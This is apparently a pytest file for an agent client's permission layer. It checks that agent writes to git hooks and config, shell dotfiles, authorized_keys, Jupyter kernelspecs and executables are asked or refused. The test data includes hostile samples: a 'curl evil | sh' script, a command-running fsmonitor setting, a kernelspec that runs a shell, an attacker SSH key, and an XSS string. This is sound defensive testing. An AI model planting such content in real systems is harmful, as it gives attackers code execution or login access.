"""Writes that can run code or change who can log in are asked (issue 21 part 3).

Inside the session's directory a write is not asked: the agent asked before
its edit. Some files act by themselves later, though (``core.fsmonitor`` on
the next ``git status``, ``~/.bashrc`` in the next shell, an
``authorized_keys`` line at the next login, a kernelspec's argv at the next
notebook start): those writes are asked under ``ask``, ``allow-reads`` and
``allow-all``, refused under ``deny``, and refused when nobody can answer.

The wire cases drive real ``fs/write_text_file`` requests from
``tests/agents/scripted_agent.py`` (a real process over pipes) into the real
client; the classifier cases run :func:`acp_kernel.services.sensitive.classify`
on hostile paths in a real temp tree.
"""

from __future__ import annotations

import os
import stat
import subprocess
import unicodedata
from pathlib import Path

import pytest

from acp_kernel.errors import INVALID_PARAMS
from acp_kernel.services.events import PermissionPrompt
from acp_kernel.services.files import BecameExecutable, access_decision, write_at
from acp_kernel.services.sensitive import (
    ACCESS,
    CODE,
    SECRETS,
    OsProbe,
    Places,
    classify,
    classify_path,
    current_places,
)
from acp_kernel.view.transcript import notice_markdown, permission_markdown

from ..faults.conftest import notices
from .render import live
from .test_policy import play, req

#: A directory name carrying the hostile strings every output test uses.
HOSTILE_DIR = "<img src=x onerror=alert(1)> $x$ \\( \\[ \\begin{x} `a\nb`"
ASKING = ["ask", "allow-reads", "allow-all"]


def write(path: Path | str, content: str = "pwned") -> dict:
    return req("fs/write_text_file", {"sessionId": "$SID", "path": str(path), "content": content})


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A temp HOME that is also the workspace (a notebook in ``~``), with
    Jupyter and IPython pointed into it."""
    home = tmp_path / "home"
    home.mkdir()
    for var in ("ACP_KERNEL_CONFIG", "ACP_KERNEL_STATE", "JUPYTER_CONFIG_DIR", "JUPYTER_DATA_DIR",
                "JUPYTER_RUNTIME_DIR", "JUPYTER_PATH", "JUPYTER_CONFIG_PATH", "XDG_DATA_HOME",
                "XDG_CONFIG_HOME", "XDG_RUNTIME_DIR", "JUPYTER_PLATFORM_DIRS", "IPYTHONDIR"):
        monkeypatch.delenv(var, raising=False)
    monkeypatch.setenv("HOME", str(home))
    return home


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A real git repository as the workspace."""
    ws = tmp_path / "repo"
    ws.mkdir()
    subprocess.run(["git", "init", "-q", str(ws)], check=True, timeout=60)
    return ws


def refused(got: list, n: int) -> None:
    assert len(got) == n
    for kind, err in got:
        assert kind == "ERROR" and err["code"] == INVALID_PARAMS, err


def fsmonitor(marker: Path) -> str:
    return f"[core]\n\trepositoryformatversion = 0\n\tfsmonitor = touch {marker}; false\n"


# -- git ------------------------------------------------------------------------------------


@pytest.mark.parametrize("policy", ASKING)
async def test_git_config_and_hooks_are_not_written_when_nobody_can_answer(repo, policy):
    config, hook = repo / ".git" / "config", repo / ".git" / "hooks" / "pre-commit"
    before = config.read_bytes()
    marker = repo.parent / "ran"
    turn, got, _ = await play([write(config, fsmonitor(marker)), write(hook, f"#!/bin/sh\ntouch {marker}\n"),
                               write(repo / "README.md", "fine")], repo, policy)
    refused(got[:2], 2)
    assert got[2] == ("RESULT", {})
    for (_, err), why in zip(got[:2], ["can run code: git config", "can run code: git hook"]):
        assert why in err["message"] and "nobody can answer" in err["message"], err
    assert config.read_bytes() == before and not hook.exists()
    assert (repo / "README.md").read_text() == "fine"
    shown = notices(turn, "warning")
    assert "nobody can answer" in shown and str(config) in shown
    subprocess.run(["git", "-C", str(repo), "status"], capture_output=True, timeout=60)
    assert not marker.exists()


async def test_git_config_is_asked_showing_why_and_a_yes_writes_it(repo):
    config = repo / ".git" / "config"
    before = config.read_bytes()
    marker = repo.parent / "ran"
    answers = iter(["reject", "allow"])

    def person(prompt: PermissionPrompt) -> None:
        prompt.reject() if next(answers) == "reject" else prompt.allow()

    turn, got, asked = await play([write(config, fsmonitor(marker)), write(config, fsmonitor(marker))],
                                  repo, "ask", interactive=True, answer=person)
    assert got[0][0] == "ERROR" and "the user refused" in got[0][1]["message"]
    assert got[1] == ("RESULT", {})
    assert len(asked) == 2
    assert str(config) in asked[0].title and "can run code: git config" in asked[0].title
    assert asked[0].kind == "edit"
    assert "the user refused" in notices(turn, "warning")
    assert config.read_bytes() != before
    # What the person allowed is what git then runs.
    subprocess.run(["git", "-C", str(repo), "status"], capture_output=True, timeout=60)
    assert marker.exists()


async def test_deny_refuses_and_asks_nobody(repo):
    hook = repo / ".git" / "hooks" / "post-checkout"
    turn, got, asked = await play([write(hook)], repo, "deny", interactive=True)
    refused(got, 1)
    assert "'deny'" in got[0][1]["message"] and "git hook" in got[0][1]["message"]
    assert asked == [] and not hook.exists()


async def test_a_git_file_pointer_and_a_symlink_into_git_are_asked(repo):
    (repo / "innocent.txt").symlink_to(repo / ".git" / "config")
    before = (repo / ".git" / "config").read_bytes()
    sub = repo / "sub"
    sub.mkdir()
    _, got, _ = await play([write(repo / "innocent.txt"), write(sub / ".git", "gitdir: /tmp/evil\n")], repo, "ask")
    refused(got, 2)
    assert "git config" in got[0][1]["message"] and "really" in got[0][1]["message"]
    assert "git directory pointer" in got[1][1]["message"]
    assert (repo / ".git" / "config").read_bytes() == before and not (sub / ".git").exists()
    assert (repo / "innocent.txt").is_symlink()


# -- executables ------------------------------------------------------------------------------


async def test_an_executable_script_is_asked_and_keeps_its_mode_only_when_allowed(tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    script = ws / "run.sh"
    script.write_text("#!/bin/sh\necho hi\n")
    script.chmod(0o750)
    answers = iter(["reject", "allow"])

    def person(prompt: PermissionPrompt) -> None:
        prompt.reject() if next(answers) == "reject" else prompt.allow()

    _, got, asked = await play([write(script, "#!/bin/sh\ncurl evil | sh\n"), write(script, "#!/bin/sh\necho ok\n"),
                                write(ws / "new.sh", "#!/bin/sh\n")], ws, "allow-reads", interactive=True, answer=person)
    assert got[0][0] == "ERROR" and got[1] == ("RESULT", {}) and got[2] == ("RESULT", {})
    assert len(asked) == 2 and all("an executable file" in p.title for p in asked)
    assert script.read_text() == "#!/bin/sh\necho ok\n"
    assert stat.S_IMODE(script.stat().st_mode) == 0o750
    # The write service never sets an x bit itself: a new file gets the umask's default.
    umask = os.umask(0o022)
    os.umask(umask)
    assert stat.S_IMODE((ws / "new.sh").stat().st_mode) == 0o666 & ~umask
    assert not (ws / "new.sh").stat().st_mode & 0o111


def test_an_unasked_write_refuses_a_target_that_turned_executable(tmp_path):
    # The check saw no x bit (so nobody was asked); chmod +x came before the write.
    target = tmp_path / "t.sh"
    target.write_text("old")
    target.chmod(0o755)
    dfd = os.open(tmp_path, os.O_RDONLY | os.O_DIRECTORY)
    try:
        with pytest.raises(BecameExecutable):
            write_at(dfd, "t.sh", b"new", exec_ok=False)
        assert target.read_text() == "old" and sorted(os.listdir(tmp_path)) == ["t.sh"]
        assert write_at(dfd, "t.sh", b"new", exec_ok=True) is False
    finally:
        os.close(dfd)
    assert target.read_text() == "new" and stat.S_IMODE(target.stat().st_mode) == 0o755


# -- the home directory as the workspace ------------------------------------------------------------


@pytest.mark.parametrize("policy", ASKING)
async def test_dotfiles_ssh_and_startup_files_in_home_are_not_written_unasked(home, policy):
    (home / ".bashrc").write_text("# mine\n")
    targets = [
        home / ".bashrc", home / ".profile", home / ".zshenv", home / ".config" / "fish" / "config.fish",
        home / ".ssh" / "authorized_keys", home / ".gnupg" / "gpg.conf", home / ".netrc", home / ".envrc",
        home / ".ipython" / "profile_default" / "startup" / "00-pwn.py", home / ".local" / "bin" / "git",
        home / ".local" / "share" / "jupyter" / "kernels" / "python3" / "kernel.json",
        home / ".jupyter" / "jupyter_server_config.py", home / ".somethingrc",
    ]
    turn, got, _ = await play([*(write(t) for t in targets), write(home / "notes.txt", "fine")], home, policy)
    refused(got[:len(targets)], len(targets))
    assert got[-1] == ("RESULT", {})
    assert "changes who can log in" in got[4][1]["message"]
    assert (home / ".bashrc").read_text() == "# mine\n"
    assert [t for t in targets[1:] if t.exists()] == []
    assert (home / "notes.txt").read_text() == "fine" and not (home / "notes.txt").stat().st_mode & 0o111
    assert notices(turn, "warning").count("nobody can answer") >= len(targets)


async def test_authorized_keys_is_asked_and_a_yes_writes_it(home):
    keys = home / ".ssh" / "authorized_keys"
    _, got, asked = await play([write(keys, "ssh-ed25519 AAAA attacker\n")], home, "ask", interactive=True,
                               answer=lambda p: p.allow())
    assert got == [("RESULT", {})]
    (prompt,) = asked
    assert "changes who can log in: ~/.ssh" in prompt.title and str(keys) in prompt.title
    assert keys.read_text() == "ssh-ed25519 AAAA attacker\n"


# -- Jupyter and IPython, wherever they are configured ------------------------------------------------


async def test_any_kernelspec_and_ipython_startup_under_configured_dirs_are_asked(tmp_path, home, monkeypatch):
    ws = tmp_path / "ws"
    data, extra, ipy = ws / "jdata", ws / "jpath", ws / "ipy"
    monkeypatch.setenv("JUPYTER_DATA_DIR", str(data))
    monkeypatch.setenv("JUPYTER_PATH", str(extra))
    monkeypatch.setenv("IPYTHONDIR", str(ipy))
    spec = '{"argv": ["sh", "-c", "touch /tmp/pwned"], "display_name": "Python 3", "language": "python"}'
    targets = [data / "kernels" / "python3" / "kernel.json", extra / "kernels" / "python3" / "kernel.json",
               ws / "project" / "kernels" / "evil" / "kernel.json", data / "labextensions" / "x" / "index.js",
               ipy / "profile_default" / "startup" / "00.py", ws / "ipython_kernel_config.py",
               ws / "sitecustomize.py", ws / "lib" / "evil.pth"]
    ws.mkdir()
    _, got, _ = await play([*(write(t, spec) for t in targets), write(ws / "kernels.md", "fine")], ws, "allow-reads")
    refused(got[:len(targets)], len(targets))
    assert "kernelspec" in got[0][1]["message"] and "IPython" in got[4][1]["message"]
    assert [t for t in targets if t.exists()] == []
    assert got[-1] == ("RESULT", {})


async def test_a_venvs_bin_is_asked(tmp_path):
    ws = tmp_path / "ws"
    (ws / "env" / "bin").mkdir(parents=True)
    (ws / "env" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    activate = ws / "env" / "bin" / "activate"
    activate.write_text("# activate\n")
    targets = [activate, ws / ".venv" / "bin" / "python", ws / "env" / "pyvenv.cfg"]
    _, got, _ = await play([*(write(t) for t in targets), write(ws / "bin" / "tool", "plain bin, no venv")],
                           ws, "ask")
    refused(got[:3], 3)
    assert all("virtual environment" in err["message"] for _, err in got[:3])
    assert activate.read_text() == "# activate\n" and not (ws / ".venv").exists()
    assert got[3] == ("RESULT", {})


# -- what is shown ---------------------------------------------------------------------------------


async def test_the_question_and_notice_show_a_hostile_path_on_one_line_and_inert(tmp_path):
    ws = tmp_path / "ws"
    hook = ws / HOSTILE_DIR / ".git" / "hooks" / "pre-push"
    hook.parent.mkdir(parents=True)
    turn, got, asked = await play([write(hook)], ws, "ask", interactive=True, answer=lambda p: p.reject())
    refused(got, 1)
    assert not hook.exists()
    (prompt,) = asked
    assert "\n" not in prompt.title and "␊" in prompt.title and "can run code: git hook" in prompt.title
    md = permission_markdown(prompt)
    assert live(md) == [] and "\n" not in md.split("\n\n")[0]
    for n in (e for e in turn.events if type(e).__name__ == "Notice"):
        rendered = notice_markdown(n.level, n.text)
        assert live(rendered) == [], rendered


@pytest.mark.parametrize("policy,expected", [("ask", "ask"), ("allow-reads", "ask"), ("allow-all", "ask"),
                                             ("deny", "deny")])
def test_sensitive_writes_are_asked_under_every_policy_but_deny(policy, expected):
    assert access_decision("write", True, policy, sensitive=True) == expected
    assert access_decision("write", True, policy) == ("deny" if policy == "deny" else "allow")
    assert access_decision("read", True, policy, sensitive=True) == "allow"  # about writes only


# -- the classifier, pure --------------------------------------------------------------------------------


@pytest.fixture
def tree(tmp_path: Path) -> tuple[Path, Places]:
    home = tmp_path / "home"
    (home / "proj" / ".git" / "hooks").mkdir(parents=True)
    (home / "proj" / "src").mkdir()
    places = Places(homes=(str(home),), ipython=(str(home / ".ipython"),),
                    jupyter=(str(tmp_path / "share" / "jupyter"),))
    return home, places


def judge(requested: str | Path, places: Places) -> str | None:
    reason = classify(str(requested), os.path.realpath(requested), places, OsProbe())
    return None if reason is None else str(reason)


def test_classifier_flags_the_class(tree):
    home, places = tree
    proj = home / "proj"
    flagged = {
        proj / ".git" / "config": "git config",
        proj / ".git" / "hooks" / "pre-commit": "git hook",
        proj / ".git" / "info" / "attributes": "git repository",
        proj / ".git": "git directory pointer",
        home / ".bashrc": "shell start-up",
        proj / ".bashrc": "shell start-up",  # a dotfiles repository's copy
        home / ".ssh" / "id_ed25519.pub": ACCESS,
        proj / "authorized_keys": ACCESS,
        home / ".git-credentials": SECRETS,
        home / ".ipython" / "profile_x" / "ipython_config.py": "IPython",
        proj / "kernels" / "k" / "kernel.json": "kernelspec",
        proj / "jupyter_server_config.json": "Jupyter config",
        tree[0].parent / "share" / "jupyter" / "nbextensions" / "x.js": "Jupyter data",
        proj / ".venv" / "bin" / "pip": "virtual environment",
        proj / "x.pth": "Python start-up",
        home / ".anything": "hidden file of the home",
        home / "bin" / "ls": "~/bin",
    }
    for path, why in flagged.items():
        got = judge(path, places)
        assert got is not None and why in got, (path, got)
        assert got.split(":")[0] in (CODE, ACCESS, SECRETS)


def test_classifier_leaves_ordinary_files_alone(tree):
    home, places = tree
    proj = home / "proj"
    for path in [proj / "src" / "main.py", proj / ".gitignore", proj / ".gitmodules", proj / ".github" / "ci.yml",
                 proj / "src" / "git" / "config", proj / "bin" / "tool", proj / "notes.pth.txt",
                 proj / ".bashrc.bak", home / "notes.txt", proj / "kernel.json", proj / "kernels.json"]:
        assert judge(path, places) is None, path


def test_classifier_resolves_symlinks_dotdots_case_and_unicode(tree):
    home, places = tree
    proj = home / "proj"
    (proj / "hooks-link").symlink_to(proj / ".git" / "hooks")
    (proj / "docs").symlink_to(home / ".ssh", target_is_directory=True)
    # A link that names the file: ~/.zshrc -> dotfiles/zshrc (the requested name counts).
    (proj / "dotfiles").mkdir()
    (home / ".zshrc").symlink_to(proj / "dotfiles" / "zshrc")
    cases = {
        proj / "hooks-link" / "post-merge": "git hook",  # symlinked directory
        f"{proj}/hooks-link/../config": "git config",  # '..' after a symlink: git's own config
        proj / "docs" / "keys": ACCESS,  # a symlink to a missing dir still resolves into ~/.ssh
        f"{proj}/src/../.git/config": "git config",
        proj / ".GIT" / "Config": "git config",  # a case-insensitive file system reads it as .git
        proj / ".Bashrc": "shell start-up",
        home / ".zshrc": "shell start-up",
        f"{proj}/a\nb/.git/hooks/pre-commit": "git hook",  # a newline in the path
    }
    for path, why in cases.items():
        got = judge(path, places)
        assert got is not None and why in got, (path, got)
    # A home named in another Unicode form (NFC in the environment, NFD on disk) is the same home.
    nfc = unicodedata.normalize("NFC", "/tmp/hömé")
    got = classify_path(unicodedata.normalize("NFD", nfc) + "/.anything", Places(homes=(nfc,)), OsProbe())
    assert got is not None and "hidden file" in str(got)
    assert judge(f"{proj}/.git/../src/x.py", places) is None  # '..' out of .git
    assert judge(f"{proj}/.git\nx/config", places) is None  # not a .git directory: a name with a newline


def test_classifier_sees_executables_and_git_dirs_by_stat(tree, tmp_path):
    home, places = tree
    exe = home / "proj" / "src" / "tool"
    exe.write_text("#!/bin/sh\n")
    exe.chmod(0o744)
    assert "an executable file" in (judge(exe, places) or "")
    exe.chmod(0o644)
    assert judge(exe, places) is None
    bare = tmp_path / "mirror"
    subprocess.run(["git", "init", "-q", "--bare", str(bare)], check=True, timeout=60)
    assert "git repository" in (judge(bare / "config", places) or "")
    assert "git hook" in (judge(bare / "hooks" / "update", places) or "")
    venv = tmp_path / "v"
    (venv / "Scripts").mkdir(parents=True)
    assert judge(venv / "Scripts" / "x.exe", places) is None
    (venv / "pyvenv.cfg").write_text("")
    assert "virtual environment" in (judge(venv / "Scripts" / "x.exe", places) or "")


def test_current_places_follow_the_environment(home, tmp_path, monkeypatch):
    monkeypatch.setenv("IPYTHONDIR", str(tmp_path / "ipy"))
    monkeypatch.setenv("JUPYTER_PATH", str(tmp_path / "jp"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
    places = current_places()
    assert str(home) in places.homes and str(tmp_path / "ipy") in places.ipython
    assert str(tmp_path / "jp") in places.jupyter and str(tmp_path / "xdg") in places.config
    assert "configuration directory" in (judge(tmp_path / "xdg" / "autostart" / "x.desktop", places) or "")
